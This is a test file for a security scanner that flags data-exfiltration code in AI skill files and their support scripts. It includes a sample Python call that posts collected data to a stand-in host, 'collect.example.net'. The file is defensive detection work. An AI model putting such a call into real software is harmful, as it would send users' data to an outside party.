import { expect } from 'chai'
import { readFileSync } from 'node:fs'
import { parse } from 'yaml'
import { repairParser } from '../../../domain/scan/code/syntax-tree.js'
import { FINDING_CODES } from '../../../domain/scan/finding-codes.js'
import { scanSkill } from '../../../domain/scan/scan-skill.js'

type Program = Readonly<Record<'harmful' | 'harmless', string>>
type Language = 'python' | 'javascript' | 'powershell' | 'ruby'
type Case = { readonly does: string; readonly code: string } & Readonly<Partial<Record<Language, Program>>>

const CASES = parse(readFileSync(new URL('code.yaml', import.meta.url), 'utf8')) as Case[]
const LANGUAGES = ['python', 'javascript', 'powershell', 'ruby'] as const
const ENDS = { python: 'py', javascript: 'js', powershell: 'ps1', ruby: 'rb' } as const

const fenced = (language: string, code: string) => `\`\`\`${language}\n${code}\`\`\`\n`
const block = (language: string, code: string) => `# Report\n\nRun this.\n\n${fenced(language, code)}`
const codesOf = (content: string) =>
  scanSkill({ content })
    .findings.filter(({ severity }) => severity !== 'info')
    .map(({ code }) => code)

describe('the scan of code', () => {
  it('has codes that findings have', () => {
    expect(FINDING_CODES).to.include.members(CASES.map(({ code }) => code))
  })

  for (const { does, code, ...programs } of CASES)
    for (const language of LANGUAGES) {
      const program = programs[language]
      if (!program) continue
      it(`finds ${language} that ${does}, and not its twin`, () => {
        expect(codesOf(block(language, program.harmful))).to.include(code)
        expect(codesOf(block(language, program.harmless))).to.deep.equal([])
      })
    }

  it('reads the files beside a skill', () => {
    for (const language of LANGUAGES) {
      const { harmful } = CASES[0]![language]!
      const { findings } = scanSkill({
        content: 'Run the script.',
        support_files: [{ path: `scripts/send.${ENDS[language]}`, content: harmful }],
      })
      expect(findings.map(({ code, field }) => ({ code, field }))).to.deep.include({
        code: 'exfiltration',
        field: 'support_files[0].content',
      })
    }
  })

  it('reads code whose language nobody names, and parts of one program in several blocks', () => {
    const { harmful } = CASES[0]!.python!
    const [first, second] = [
      harmful.slice(0, harmful.indexOf('requests.post')),
      harmful.slice(harmful.indexOf('requests.post')),
    ]
    expect(codesOf(block('', harmful))).to.include('exfiltration')
    expect(codesOf(`# Report\n\nRun this.\n\n${harmful}\n## Next\n\nRest.`)).to.include('exfiltration')
    expect(codesOf(block('python', first) + block('python', second))).to.include('exfiltration')
    expect(codesOf(block('python', second))).to.deep.equal([])
  })

  it('quotes the call, and names its line and column', () => {
    const [finding] = scanSkill({ content: block('python', CASES[0]!.python!.harmful) }).findings
    expect(finding).to.include({
      line: 10,
      column: 1,
      quote: 'requests.post("https://collect.example.net/in", data={"k": body})',
    })
  })

  it('notes code that a text shows as what not to do', () => {
    const { findings, counts } = scanSkill({
      content: `Never write code like this:\n\n${fenced('python', CASES[0]!.python!.harmful)}`,
    })
    expect(counts).to.include({ critical: 0, warn: 0 })
    expect(findings.map(({ code, severity }) => ({ code, severity }))).to.deep.include({
      code: 'exfiltration',
      severity: 'info',
    })
  })

  it('follows calls within calls once', () => {
    const nested = `${'subprocess.run(['.repeat(80)}"ls"${'])'.repeat(80)}`
    const formats = `${'"" % ('.repeat(80)}x${',)'.repeat(80)}`
    for (const code of [
      `import subprocess\n${nested}\n`,
      `${formats}\n`,
      `${'exec(('.repeat(80)}x${'))'.repeat(80)}\n`,
    ])
      expect(scanSkill({ content: block('python', code) }).verdict).to.be.oneOf(['clean', 'flagged'])
    expect(scanSkill({ content: block('powershell', `${'& ('.repeat(60)}x${')'.repeat(60)}\n`) }).verdict).to.be.a(
      'string',
    )
  })

  it('believes no comment of a program about itself', () => {
    const { harmful } = CASES[0]!.python!
    for (const comment of ['# telemetry: do not remove\n', '# example of what never to do\n', '# harmless\n'])
      expect(codesOf(block('python', comment + harmful)), comment).to.include('exfiltration')
  })

  it('comes to an end with code that is nested without end, or is no code, and reads the next', async () => {
    const hostile = [
      '(',
      'f(',
      '[',
      '{a:',
      'x=>',
      'a.b.',
      'lambda:',
      '`${',
      'def f():\n ',
      'a=b\n',
      'f=g=',
      '"',
      '$(',
      '@(',
    ]
    for (const language of LANGUAGES)
      for (const atom of hostile)
        expect(scanSkill({ content: block(language, atom.repeat(8_000 / atom.length)) }).version).to.be.a('string')
    await repairParser()
    expect(codesOf(block('python', CASES[0]!.python!.harmful))).to.include('exfiltration')
  })
})
